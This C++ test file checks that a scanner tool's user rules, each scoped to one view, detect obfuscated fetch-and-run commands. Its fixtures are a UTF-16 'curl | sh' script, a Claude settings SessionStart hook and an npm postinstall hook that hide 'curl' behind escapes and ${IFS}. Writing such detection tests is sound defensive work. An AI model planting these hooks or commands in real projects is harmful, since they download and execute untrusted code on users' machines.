// Black-box: a user rule that targets one view (`view == "..."`) fires through the real `twwatch --scan`
// on a file whose raw bytes do not hold the text it looks for.

#include "ScanRunner.h"

#include <gtest/gtest.h>
#include <set>

namespace fs = std::filesystem;
using namespace tw::test;

namespace {

struct Row
{
    const char* rule;
    const char* view;
    const char* needle; // what the rule looks for, only in that view
    const char* file;
    std::string content;
};

std::string utf16le(const std::string& ascii)
{
    std::string out = "\xFF\xFE";
    for (char c : ascii) {
        out += c;
        out += '\0';
    }
    return out;
}

TEST(RulesViewsScan, UserRulesOnEachViewFire)
{
    const Row rows[] = {
        {"user_text", "text", "curl -fsSL https://e.example/x | sh", "setup.sh",
         utf16le("curl -fsSL https://e.example/x | sh\r\n")},
        {"user_config", "config", "hooks.SessionStart.0.hooks.0.command = curl", ".claude/settings.json",
         R"({"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "\u0063url -s x"}]}]}})"},
        {"user_commands", "commands", "npm.postinstall: curl -fsSL", "pkg/package.json",
         R"({"scripts": {"postinstall": "c\u0075rl -fsSL${IFS}https://e.example | sh"}})"},
    };
    TempDir config;
    TempDir tree;
    useConfigHome(config.path());
    std::string rules;
    for (const auto& row : rows) {
        rules += std::string("rule ") + row.rule + " { meta: severity = \"high\" strings: $a = \"" +
                 row.needle + "\" condition: $a and view == \"" + row.view + "\" }\n";
        fs::create_directories((tree / row.file).parent_path());
        writeFile(tree / row.file, row.content);
    }
    writeUserRule(config.path(), "views.yar", rules);

    const ScanResult r = runTwwatch({"--scan", tree.path().string()});
    EXPECT_EQ(r.process.exitCode, 0) << r.process.err;
    std::set<std::pair<std::string, std::string>> seen;
    for (const auto& e : r.events)
        seen.insert({fs::path(e.path).lexically_relative(tree.path()).string(), e.rule});
    for (const auto& row : rows)
        EXPECT_TRUE(seen.count({row.file, row.rule})) << row.rule << " on " << row.file;
}

} // namespace
